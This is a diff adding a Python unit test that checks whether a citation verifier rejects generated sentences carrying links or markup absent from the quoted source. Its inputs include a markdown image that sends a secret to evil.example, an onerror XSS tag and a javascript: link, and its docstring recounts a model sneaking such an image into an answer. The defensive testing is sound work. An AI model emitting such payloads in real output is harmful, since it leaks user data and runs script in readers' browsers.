@@ -1037,6 +1037,27 @@ def test_a_figure_must_be_in_the_sentence_cited_not_elsewhere_in_its_passage():
         assert ok.text == (text or good["text"])
 
 
+def test_a_sentence_may_not_add_links_or_markup_its_quotes_lack():
+    """A tester's model copied the cited sentence and appended an image that would load an outside
+    address ("![p](https://evil.example/leak.png?d=...)", or an <img onerror>): it passed the check
+    and came back raw in /v1/ask's answer. A link or markup the quote lacks is a claim it does not
+    support; one the quote holds may be repeated."""
+    doc = "The ferry left at 9 am, the operator said. Its timetable is at https://ferry.example/times today."
+    ps = [Passage(1, "doc", "doc#0", "T", 0, len(doc), doc)]
+    spans, by_n = sentence_spans(ps), {1: ps[0]}
+    for bad in (
+        "The ferry left at 9 am, the operator said. ![p](https://evil.example/leak.png?d=secret)",
+        "The ferry left at 9 am, the operator said <img src=x onerror=alert(1)>",
+        "The ferry left at 9 am, [the operator](javascript:alert(1)) said.",
+        "The ferry left at 9 am, see www.evil.example for the operator.",
+    ):
+        assert verify_sentence({"text": bad, "citations": ["1.1"]}, by_n, spans) is None, bad
+    ok = verify_sentence(
+        {"text": "Its timetable is at https://ferry.example/times today.", "citations": ["1.2"]}, by_n, spans
+    )
+    assert ok is not None and "https://ferry.example/times" in ok.text
+
+
 def test_schema_limits_ids():
     schema = llm.answer_schema(["1.1", "1.2"])["schema"]
     assert list(schema["properties"]) == ["sentences", "abstained"]
